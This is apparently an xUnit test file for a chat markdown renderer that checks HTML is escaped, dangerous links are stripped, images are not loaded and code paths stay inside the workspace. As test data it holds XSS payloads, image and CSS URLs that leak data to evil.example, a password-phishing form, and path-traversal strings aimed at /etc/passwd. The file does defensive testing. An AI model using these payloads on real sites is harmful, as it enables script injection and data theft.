using AiCollab.Web.Features.Workspace.Chat;
using FluentAssertions;
using Xunit;

namespace AiCollab.Tests.Web.Features.Workspace.Chat;

public sealed class MarkdownRendererTests : IDisposable
{
    private readonly MarkdownRenderer _renderer = new(new HtmlPolicy());

    public void Dispose() => _renderer.Dispose();

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("Hi <img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)></svg>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<style>body{background:url(https://evil.example/?leak)}</style>")]
    [InlineData("<div style=\"background:url(https://evil.example)\">x</div>")]
    [InlineData("<form action=https://evil.example><input name=password></form>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    public void Shows_html_as_text_and_never_as_html(string markdown)
    {
        var html = Html(markdown);

        html.Should().NotMatchRegex("<(script|img|svg|iframe|style|form|input|math|object|embed|link|meta)");
        html.Should().NotMatchRegex("<[^>]*\\s(on\\w+|style|src)\\s*=");
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](//evil.example/path)")]
    [InlineData("[x](/logout)")]
    [InlineData("<javascript:alert(1)>")]
    public void Takes_the_address_from_links_that_do_not_lead_to_the_web(string markdown) =>
        Html(markdown).Should().NotContain("href");

    [Theory]
    [InlineData("![alt](https://evil.example/t.png?c=secret)")]
    [InlineData("![alt](http://evil.example/t.png)")]
    [InlineData("[![alt](https://evil.example/t.png)](https://evil.example)")]
    [InlineData("![alt](data:image/png;base64,AAAA)")]
    [InlineData("![alt](//evil.example/t.png)")]
    public void Loads_no_image(string markdown) => Html(markdown).Should().NotContain("<img").And.NotContain("src=");

    [Fact]
    public void Makes_a_remote_image_a_link_with_its_text() =>
        Html("![the plan](https://example.com/plan.png)").Should()
            .Contain("href=\"https://example.com/plan.png\"").And.Contain(">the plan</a>").And.Contain("noopener");

    [Fact]
    public void Opens_links_in_a_new_tab_without_an_opener() =>
        Html("[docs](https://example.com)").Should().Contain("target=\"_blank\"").And.Contain("rel=\"noopener noreferrer nofollow\"");

    [Fact]
    public void Keeps_code_apart_with_its_language_and_path()
    {
        var blocks = _renderer.Render("Look:\n\n```Python path=src/main.py\nprint('<b>')\n```\n\nDone");

        blocks.Should().HaveCount(3);
        blocks[1].Should().Be(new ChatBlock.Code("python", "src/main.py", "print('<b>')"));
    }

    [Theory]
    [InlineData("```py path=../../etc/passwd\nx\n```")]
    [InlineData("```py path=/etc/passwd\nx\n```")]
    [InlineData("```py path=.git/config\nx\n```")]
    public void Takes_no_path_that_leaves_the_workspace(string markdown) =>
        _renderer.Render(markdown).Should().ContainSingle().Which.Should().BeOfType<ChatBlock.Code>().Which.Path.Should().BeNull();

    [Fact]
    public void Puts_headings_below_those_of_the_page() => Html("# One\n\n## Two").Should().Contain("<h3>One</h3>").And.Contain("<h4>Two</h4>");

    [Fact]
    public void Draws_tables_task_lists_and_struck_text() =>
        Html("| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n- [x] done\n- [ ] open").Should()
            .Contain("<table>").And.Contain("<del>2</del>").And.Contain("☑ done").And.Contain("☐ open").And.NotContain("<input");

    [Fact]
    public void Gives_the_same_rendering_to_everybody() => _renderer.Render("same *text*").Should().BeSameAs(_renderer.Render("same " + "*text*"));

    private string Html(string markdown) =>
        string.Concat(_renderer.Render(markdown).Select(b => b is ChatBlock.Html html ? html.Markup : ""));
}
